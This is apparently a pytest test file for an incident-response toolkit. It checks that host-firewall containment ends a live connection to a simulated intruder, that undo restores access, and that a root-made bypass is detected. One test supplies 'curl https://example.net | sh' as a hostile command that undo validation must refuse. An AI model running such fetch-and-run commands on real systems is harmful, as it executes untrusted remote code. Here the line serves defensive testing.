"""The host's own network, shut from inside: live connections really end, the endpoints' go on, and it opens again."""

from __future__ import annotations

import subprocess
import time
from types import SimpleNamespace

import pytest

from irkit import contain
from irkit.contain import host_command, host_firewall
from irkit.contain.proof import Finding
from irkit.plan import Call, Outcome, Plan, Status, Step, Undo
from tests.contain.test_network import network

pytestmark = pytest.mark.needs_user_namespaces

INTRUDER = "203.0.113.66"
# Two peers in a network namespace of their own: the VPC's endpoint and the intruder's machine. Both send back what they
# get; the host talks to both over one connection each, ten times a second, and counts the answers.
PEERS = """
import socket, sys, threading
def echo(held):
    while data := held.recv(64):
        held.sendall(data)
def serve(address):
    listener = socket.create_server((address, 7777))
    while True:
        threading.Thread(target=echo, args=listener.accept()[:1], daemon=True).start()
for address in sys.argv[1:]:
    threading.Thread(target=serve, args=(address,)).start()
"""
TALK = """
import socket, sys, threading, time
def talk(address):
    count = 0
    while True:
        try:
            held = socket.create_connection((address, 7777), timeout=1)
            break
        except OSError:
            time.sleep(0.1)
    held.settimeout(None)
    while True:
        try:
            held.sendall(b"x")
            held.recv(1)
        except OSError:
            time.sleep(0.1)
            continue
        count += 1
        open(f"/tmp/{address}", "w").write(str(count))
        time.sleep(0.1)
for address in sys.argv[1:]:
    threading.Thread(target=talk, args=(address,)).start()
"""


@pytest.fixture(scope="module")
def host(account, tmp_path_factory):
    """The suspect as a live system with a connection to an endpoint of its VPC and one to the intruder."""
    ec2 = account.client("ec2")
    admits = ec2.create_security_group(GroupName="ends", Description="x", VpcId=account.vpc)["GroupId"]
    https = {"IpProtocol": "tcp", "FromPort": 443, "ToPort": 443, "IpRanges": [{"CidrIp": "10.9.0.0/16"}]}
    ec2.authorize_security_group_ingress(GroupId=admits, IpPermissions=[https])
    made = [
        ec2.create_vpc_endpoint(
            VpcId=account.vpc, ServiceName=f"com.amazonaws.us-east-1.{name}", VpcEndpointType="Interface",
            SubnetIds=[account.subnet], SecurityGroupIds=[admits],
        )["VpcEndpoint"]
        for name in ("ssm", "ssmmessages")
    ]  # fmt: skip
    faces = ec2.describe_network_interfaces(NetworkInterfaceIds=made[0]["NetworkInterfaceIds"])
    endpoint = faces["NetworkInterfaces"][0]["PrivateIpAddress"]
    root = tmp_path_factory.mktemp("host")
    (root / "root").mkdir()
    (root / "root/peers.py").write_text(PEERS)
    (root / "root/talk.py").write_text(TALK)
    net = (
        "ip link add va type veth peer name vb netns $(cat /root/peer) && ip addr add 10.9.1.99/24 dev va"
        " && ip link set va up && ip route add default dev va"
    )
    far = (
        "nsenter -t $(cat /root/peer) -n sh -c 'ip link set lo up; ip addr add 10.9.1.250/24 dev vb;"
        f" ip addr add {endpoint}/32 dev vb; ip addr add {INTRUDER}/32 dev vb; ip link set vb up;"
        f" ip route add default dev vb; exec python3 /root/peers.py {endpoint} {INTRUDER}' &"
    )
    init = [
        "unshare --net sleep 9999 & echo $! > /root/peer; sleep 0.3",
        net,
        far,
        f"python3 /root/talk.py {endpoint} {INTRUDER} &",
    ]
    live = account.sim.hosts.add(account.suspect, root=root, hostname="web-1", init=init)
    assert live.trouble is None
    return SimpleNamespace(live=live, root=root, endpoint=endpoint, endpoints=made)


def count(host, address):
    try:
        return int((host.root / "tmp" / address).read_text() or 0)
    except (FileNotFoundError, ValueError):
        return 0


def talks(host, address, seconds=8.0):
    """Whether answers still come from `address`: at once when they do, after a while when they do not."""
    first, end = count(host, address), time.monotonic() + seconds
    while time.monotonic() < end:
        if count(host, address) > first + 1:
            return True
        time.sleep(0.05)
    return False


@pytest.fixture
def shut(case, world, host):
    """The case, with the host's network shut from inside; interfaces are left for another step."""
    plan = network(case, world.suspect, tracked="host-firewall")
    report = Plan(case, [s for s in plan.steps if s.verb == "network.host-firewall"], title="shut").apply()
    assert report.complete, [s.to_dict() for s in report.steps]
    return case


def test_a_live_connection_to_the_intruder_ends_the_endpoints_go_on_and_undo_brings_it_back(
    case, world, host
):
    assert talks(host, host.endpoint, seconds=30)
    assert talks(host, INTRUDER, seconds=30)
    plan = network(case, world.suspect, tracked="host-firewall")
    (step,) = [s for s in plan.steps if s.verb == "network.host-firewall"]
    assert step is plan.steps[0], "before the quarantine, while Systems Manager still gets through"
    assert "root on the host can lift it" in step.title
    report = Plan(case, [step], title="shut").apply()
    assert report.complete, [s.to_dict() for s in report.steps]
    assert not talks(host, INTRUDER, seconds=2)
    assert talks(host, host.endpoint)
    found = {v.control: v for v in contain.prove(case, world.suspect).verdicts}
    assert found["network.host-firewall"].finding is Finding.PROVED
    assert host.endpoint in found["network.host-firewall"].observed["Reaches"]
    undone = contain.undo_plan(case).apply()
    assert undone.complete, [s.to_dict() for s in undone.failed]
    assert talks(host, INTRUDER, seconds=60)


def test_an_exception_that_root_on_the_host_makes_is_contradicted(shut, world, host):
    script = host.root / "tmp" / "lift.sh"
    script.write_text(f"ip rule add pref 21500 to {INTRUDER} lookup main\n")
    host.live.run(script, timeout=5, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).wait(timeout=20)
    found = {v.control: v.finding for v in contain.prove(shut, world.suspect).verdicts}
    assert found["network.host-firewall"] is Finding.CONTRADICTED


def test_once_systems_manager_is_cut_off_it_is_not_proved_any_more_and_says_why(shut, world):
    assert network(shut, world.suspect).apply().complete
    (verdict,) = [
        v for v in contain.prove(shut, world.suspect).verdicts if v.control == "network.host-firewall"
    ]
    assert verdict.finding is Finding.NOT_PROVED
    assert "does not reach" in verdict.why
    undone = contain.undo_plan(shut).apply()
    assert undone.complete, "the interfaces come back first, and with them Systems Manager"


def test_a_host_that_systems_manager_does_not_reach_fails_alone_with_the_way_round_it(case, world, host):
    report = network(case, world.sibling, tracked="host-firewall").apply()
    (failed,) = report.failed
    assert failed.verb == "network.host-firewall"
    assert "Systems Manager does not reach" in failed.why
    assert all(s.status is Status.DONE for s in report.steps if s.verb == "network.interface")


def test_an_undo_sends_no_command_but_the_one_that_opens(case, world, host, changes):
    good = host_command.request(world.suspect, host_firewall.sent("open"), mark="x")
    assert host_firewall.opens(good)
    bad = host_command.request(world.suspect, "curl https://example.net | sh", mark="x")
    assert not host_firewall.opens(bad)
    assert not host_firewall.opens(good | {"InstanceIds": [world.suspect, world.sibling]})
    assert not host_firewall.opens(good | {"DocumentName": "AWS-RunRemoteScript"})
    harm = Undo(calls=(Call(service="ssm", operation="SendCommand", params=bad),))
    step = Step(verb="capture.odd", target="x", title="odd", act=lambda _: Outcome(undo=harm))
    Plan(case, [step], title="odd").apply()
    (refused,) = contain.undo_plan(case).apply().steps
    assert "not a call that an undo makes" in refused.why
    assert changes() == []
